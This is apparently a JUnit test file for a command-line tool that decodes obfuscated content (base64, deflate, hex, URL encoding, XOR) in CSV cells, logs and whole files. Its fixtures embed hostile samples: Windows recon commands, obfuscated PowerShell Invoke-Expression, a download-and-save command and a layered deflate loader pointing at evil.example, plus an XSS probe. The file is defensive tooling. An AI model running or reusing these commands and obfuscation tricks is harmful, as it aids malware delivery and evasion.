package dev.spoor.acceptance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code decode --column}: what cells hide, as rows that know where they come from, or in place. */
class DecodeCellsTest {
    @TempDir
    Path home;

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private String decode(Object... more) throws Exception {
        Object[] all = new Object[more.length + 2];
        all[0] = "decode";
        all[1] = "-q";
        System.arraycopy(more, 0, all, 2, more.length);
        return Command.spoor(home, all).run().exits(0).out();
    }

    @Test
    void rowsCarryTheNumberAndTheOtherColumnsOfTheirRow() throws Exception {
        Files.writeString(
                home.resolve("c.csv"),
                "host,cmd,pid\nh1,dir,1\nh2,echo " + base64("whoami /all & net user") + " | base64 -d,2\nh3,dir,3\n");
        assertEquals(
                "Row,host,pid,SourceColumn,Chain,Depth,From,To,ParentFrom,ParentTo,Name,Fixpoint,Decoded\n"
                        + "2,h2,2,cmd,base64,1,5,37,5,37,base64,true,whoami /all & net user\n",
                decode("c.csv", "--column", "cmd", "-o", "csv"));
    }

    /** Several batches are looked into at once; what they give comes in the order of the rows, none twice and none missing. */
    @Test
    void rowsOfManyBatchesComeInOrder() throws Exception {
        StringBuilder text = new StringBuilder();
        for (int i = 1; i <= 100_000; i++) {
            text.append("job ").append(i).append(" of the nightly run of all jobs there are: ");
            text.append(i % 50 == 0 ? base64("whoami /all & net user number " + i) : "done")
                    .append('\n');
        }
        Files.writeString(home.resolve("jobs.txt"), text);
        String[] found = decode("jobs.txt", "--column", "text", "-o", "ndjson").split("\n");
        assertEquals(2000, found.length);
        for (int i = 0; i < found.length; i++) {
            int row = 50 * (i + 1);
            assertTrue(found[i].startsWith("{\"Row\":" + row + ",\"line\":" + row + ","), found[i]);
            assertTrue(found[i].endsWith("\"Decoded\":\"whoami /all & net user number " + row + "\"}"), found[i]);
        }
    }

    @Test
    void theTextWithPiecesInPlace() throws Exception {
        String inner = "powershell -c Invoke-Expression ('who'+'ami')";
        Files.writeString(home.resolve("n.txt"), "first\nrun " + base64(inner) + " now %77%68%6f\nlast\n");
        assertEquals(
                "line,text\n1,first\n2,run powershell -c Invoke-Expression 'whoami' now who\n3,last\n",
                decode("n.txt", "--column", "text", "--in-place", "-o", "csv"));
        assertEquals(
                "line,text\n1,first\n2,run <<powershell -c Invoke-Expression 'whoami'>> now <who>\n3,last\n",
                decode("n.txt", "--column", "text", "--in-place", "--marks", "<,>", "-o", "csv"));
    }

    @Test
    void wholeFilesWhereLinesAreNotEnough() throws Exception {
        String script = "Invoke-WebRequest http://evil.example/a -OutFile b.exe\n".repeat(4);
        String wrapped = Base64.getMimeEncoder(64, new byte[] {'\r', '\n'})
                .encodeToString(script.getBytes(StandardCharsets.UTF_8));
        Files.writeString(
                home.resolve("c.txt"),
                "-----BEGIN CERTIFICATE-----\r\n" + wrapped + "\r\n-----END CERTIFICATE-----\r\n");
        String found = decode("--whole", "c.txt", "-o", "ndjson");
        assertTrue(found.startsWith("{\"file\":\"c.txt\",\"SourceColumn\":\"text\",\"Chain\":\"base64\","), found);
        assertTrue(found.endsWith("\"Decoded\":\"" + script.replace("\n", "\\n") + "\"}\n"), found);
        Ran folder = Command.spoor(home, "decode", "--whole", ".").run().exits(2);
        assertTrue(folder.err().contains("is no file"), folder::toString);
    }

    @Test
    void logsOfTextByTheirLines() throws Exception {
        Files.writeString(
                home.resolve("a.log"),
                "Mar 17 08:00:00 gw app[1]: GET /?q=%3Cscript%3Ealert(1)%3C/script%3E\nMar 17 08:00:01 gw app[1]: nothing\n");
        String found = decode("a.log", "--lines", "--column", "text", "-o", "ndjson");
        assertTrue(found.contains("\"Row\":1,\"line\":1,"), found);
        assertTrue(found.contains("\"Chain\":\"url-encoding\""), found);
        assertTrue(found.contains("\"Decoded\":\"/?q=<script>alert(1)</script>\""), found);
    }

    /** .NET's way to hide a script: base64 of bare deflate; and encodings of other sorts in it, down to what hides nothing more. */
    @Test
    void layerByLayerToTheFixedPoint() throws Exception {
        String hex = "echo "
                + java.util.HexFormat.of().formatHex("http://evil.example/payload".getBytes(StandardCharsets.UTF_8));
        ByteArrayOutputStream deflated = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(deflated, new Deflater(9, true))) {
            out.write(("IEX ('" + hex.substring(0, 20) + "'+'" + hex.substring(20) + "')")
                    .getBytes(StandardCharsets.UTF_8));
        }
        Files.writeString(
                home.resolve("c.txt"),
                "New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
                        + Base64.getEncoder().encodeToString(deflated.toByteArray()) + "'),1)\n");
        String found = decode("c.txt", "--column", "text", "-o", "ndjson");
        String last = found.lines().reduce((a, b) -> b).orElse("");
        assertTrue(last.contains("\"Chain\":\"base64 > deflate > script > hex\""), found);
        assertTrue(
                last.contains("\"Fixpoint\":true") && last.contains("\"Decoded\":\"http://evil.example/payload\""),
                found);
    }

    @Test
    void xorOnlyOnRequest() throws Exception {
        byte[] bytes = "Mar 17 08:00:00 gw sshd[1]: Failed password for root from 192.0.2.7 port 22 ssh2\n"
                .repeat(5)
                .getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] ^= (byte) 0x65;
        }
        Files.write(home.resolve("x.bin"), bytes);
        Command.spoor(home, "decode", "-q", "x.bin").run().exits(6);
        String rows = decode("x.bin", "--set", "decoder.xor.keys=auto", "-o", "ndjson");
        assertEquals(5, rows.lines().filter(row -> row.contains("192.0.2.7")).count());
    }

    /** Text in text in text, a thousand times: it ends at the depth, with a problem, and keeps what it has. */
    @Test
    void recursionEndsAtItsLimit() throws Exception {
        String text = "whoami /all & net user & ipconfig";
        for (int i = 0; i < 40; i++) {
            text = base64(text);
            if (text.length() > 1 << 20) {
                break;
            }
        }
        Files.writeString(home.resolve("deep.txt"), text + "\n");
        Ran ran = Command.spoor(home, "decode", "-q", "deep.txt", "--column", "text", "-o", "ndjson")
                .run()
                .exits(3);
        assertEquals(21, ran.out().lines().count());
        assertTrue(ran.err().contains("layers deep"), ran::toString);
    }
}
